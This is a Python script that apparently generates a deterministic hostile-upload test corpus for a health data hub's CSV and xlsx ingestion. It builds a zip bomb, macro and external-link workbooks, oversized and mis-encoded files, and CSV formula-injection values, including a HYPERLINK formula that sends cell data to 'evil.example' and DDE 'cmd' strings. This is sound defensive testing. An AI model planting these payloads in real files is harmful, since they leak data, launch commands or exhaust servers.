"""Write the hostile-upload corpus (issue 8) into a directory, deterministically.

    python tests/hostile/make_corpus.py tests/hostile/corpus            # small files only
    python tests/hostile/make_corpus.py /tmp/corpus --big               # plus the large ones

Every file is built from a real sample feed (RJ122, St Thomas', June 2025) so that the only thing
wrong with it is the hostile feature it carries. ``CASES`` says what the hub must do with each:
``reject`` (nothing stored, a message naming the file and, where one is to blame, the field) or
``store`` (accepted: well-formed UTF-16, mixed encodings, formulas kept as inert text). The 2 GB
upload is never written: the test streams it from a generator (API) or a sparse file (CLI).
"""

from __future__ import annotations

import io
import random
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
BASE = REPO / "sample_feeds" / "RJ122" / "RJ122_2025-06.csv"
#: committed corpus beside this script (small files only)
CORPUS_DIR = Path(__file__).resolve().parent / "corpus"


@dataclass(frozen=True)
class Case:
    name: str
    expect: str  # reject | store
    why: str
    field: str | None = None  # the field the rejection must name, when one is to blame
    big: bool = False  # generated at test time, never committed
    form: tuple[tuple[str, str], ...] = ()  # form fields / CLI options sent with it


CASES: tuple[Case, ...] = (
    Case("xlsx_zip_bomb.xlsx", "reject", "a 300 MB part compressed ~1000:1"),
    Case("xlsx_external_link.xlsx", "reject", "xl/externalLinks/ part"),
    Case("xlsx_macro.xlsx", "reject", "vbaProject.bin and macro-enabled content type"),
    Case("xlsx_formula_cells.xlsx", "store", "formula cells: only cached values are read"),
    Case("columns_600.csv", "reject", "600 columns in the header"),
    Case("columns_1e6.csv", "reject", "10^6 columns", big=True),
    Case("cell_10mb_line.csv", "reject", "one 10 MB unquoted cell", big=True),
    Case(
        "cell_10mb_quoted.csv",
        "reject",
        "one 10 MB quoted multi-line cell",
        big=True,
        field="Assault_Location_Description",
    ),
    Case("garbage_nul.csv", "reject", "random bytes with NULs"),
    Case("garbage_no_nul.csv", "reject", "random bytes without NULs"),
    Case("png_named.csv", "reject", "a PNG image renamed .csv"),
    Case("utf16_bom.csv", "store", "well-formed UTF-16 LE with BOM"),
    Case("utf16_bom_broken.csv", "reject", "UTF-16 BOM then a lone surrogate"),
    Case("utf16_no_bom.csv", "reject", "UTF-16 LE without a BOM"),
    Case("mixed_encoding.csv", "store", "UTF-8 lines and Windows-1252 lines in one file"),
    Case("header_only.csv", "reject", "a header and no data rows"),
    Case("formulas.csv", "store", "=HYPERLINK, +cmd|, -2+3, @SUM in free text"),
    Case(
        "contradicts_department.csv",
        "reject",
        "the form names another department",
        field="Site_Code_of_Treatment",
        form=(("department", "RJZ01"),),
    ),
    Case(
        "contradicts_period.csv",
        "reject",
        "the form names another month",
        field="Reporting_Period_Start_Date",
        form=(("period", "2025-03"),),
    ),
)

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
)


def _base_lines() -> list[str]:
    return BASE.read_text(encoding="utf-8-sig").splitlines()


def _csv(lines: list[str]) -> bytes:
    return ("\n".join(lines) + "\n").encode("utf-8")


def _loc_col(header: str) -> int:
    return header.split(",").index("Assault_Location_Description")


def _with_location(lines: list[str], row: int, text: str) -> list[str]:
    import csv

    out = list(lines)
    cells = next(csv.reader([out[row]]))
    cells[_loc_col(out[0])] = text
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(cells)  # quotes a cell holding a newline
    out[row] = buf.getvalue()[:-1]
    return out


def _xlsx(formula_rows: bool = False) -> bytes:
    import csv

    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    rows = list(csv.reader(_base_lines()))
    for r in rows:
        ws.append(r)
    if formula_rows:
        col = rows[0].index("Assault_Location_Description") + 1
        for i, f in enumerate(FORMULAS[:4]):
            ws.cell(row=i + 2, column=col, value=f if f.startswith("=") else "=" + f)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _rezip(
    data: bytes,
    extra: dict[str, bytes],
    ctype_extra: bytes = b"",
    big_member: tuple[str, int] | None = None,
) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "[Content_Types].xml" and ctype_extra:
                body = body.replace(b"</Types>", ctype_extra + b"</Types>")
            zf.writestr(info.filename, body)
        for name, body in extra.items():
            zf.writestr(name, body)
        if big_member:
            name, size = big_member
            chunk = b"\x00" * (1 << 20)
            with zf.open(name, "w", force_zip64=True) as fh:
                for _ in range(size >> 20):
                    fh.write(chunk)
    return out.getvalue()


def build(name: str) -> bytes:
    """The bytes of one corpus file."""
    lines = _base_lines()
    rnd = random.Random(name)  # fixed per file: the corpus is reproducible
    if name == "xlsx_zip_bomb.xlsx":
        return _rezip(_xlsx(), {}, big_member=("xl/media/image1.bin", 300 << 20))
    if name == "xlsx_external_link.xlsx":
        link = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink '
            b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships"/></externalLink>'
        )
        ct = (
            b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
        )
        return _rezip(_xlsx(), {"xl/externalLinks/externalLink1.xml": link}, ct)
    if name == "xlsx_macro.xlsx":
        ct = (
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            b'<Override PartName="/xl/workbook.xml" ContentType="application/'
            b'vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
        )
        return _rezip(
            _xlsx(), {"xl/vbaProject.bin": bytes(rnd.getrandbits(8) for _ in range(2048))}, ct
        )
    if name == "xlsx_formula_cells.xlsx":
        return _xlsx(formula_rows=True)
    if name == "columns_600.csv":
        head = lines[0] + "," + ",".join(f"extra_{i}" for i in range(600))
        return _csv([head, *lines[1:]])
    if name == "columns_1e6.csv":
        head = lines[0] + "," + ",".join("x" for _ in range(10**6))
        return _csv([head, *lines[1:]])
    if name == "cell_10mb_line.csv":
        return _csv(_with_location(lines, 3, "a" * (10 << 20)))
    if name == "cell_10mb_quoted.csv":
        return _csv(_with_location(lines, 3, ("b" * 99 + "\n") * (100 << 10)))
    if name == "garbage_nul.csv":
        return bytes(rnd.getrandbits(8) for _ in range(8192))
    if name == "garbage_no_nul.csv":
        return bytes(rnd.randrange(1, 256) for _ in range(8192))
    if name == "png_named.csv":
        return b"\x89PNG\r\n\x1a\n" + bytes(rnd.getrandbits(8) for _ in range(2048))
    if name == "utf16_bom.csv":
        return ("\n".join(lines) + "\n").encode("utf-16")  # BOM + native order
    if name == "utf16_bom_broken.csv":
        return ("\n".join(lines[:10]) + "\n").encode("utf-16-le").join(
            [b"\xff\xfe", b""]
        ) + b"\x00\xd8A\x00\n\x00"  # lone high surrogate
    if name == "utf16_no_bom.csv":
        return ("\n".join(lines) + "\n").encode("utf-16-le")
    if name == "mixed_encoding.csv":
        body = _with_location(lines, 2, "o/s Café Nero")
        body = _with_location(body, 4, "opp Pâtisserie Valérie")
        raw = [ln.encode("utf-8") for ln in body]
        raw[4] = body[4].encode("cp1252")  # this line as Windows-1252, the rest UTF-8
        return b"\n".join(raw) + b"\n"
    if name == "header_only.csv":
        return _csv(lines[:1])
    if name == "formulas.csv":
        body = lines
        for i, f in enumerate(FORMULAS):
            body = _with_location(body, i + 1, f)
        return _csv(body)
    if name in ("contradicts_department.csv", "contradicts_period.csv"):
        return _csv(lines)
    raise KeyError(name)


def write_corpus(dest: Path, big: bool = False) -> dict[str, Path]:
    """Write every case (the big ones only with ``big``); returns name -> path."""
    dest.mkdir(parents=True, exist_ok=True)
    out = {}
    for c in CASES:
        if c.big and not big:
            continue
        p = dest / c.name
        p.write_bytes(build(c.name))
        out[c.name] = p
    return out


def committed(c: Case) -> bool:
    """Small files are committed beside this script; the zip bomb is small too (~300 KB)."""
    return not c.big


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else CORPUS_DIR
    for n, p in write_corpus(target, big="--big" in sys.argv).items():
        print(f"{p.stat().st_size:>12,d}  {n}")
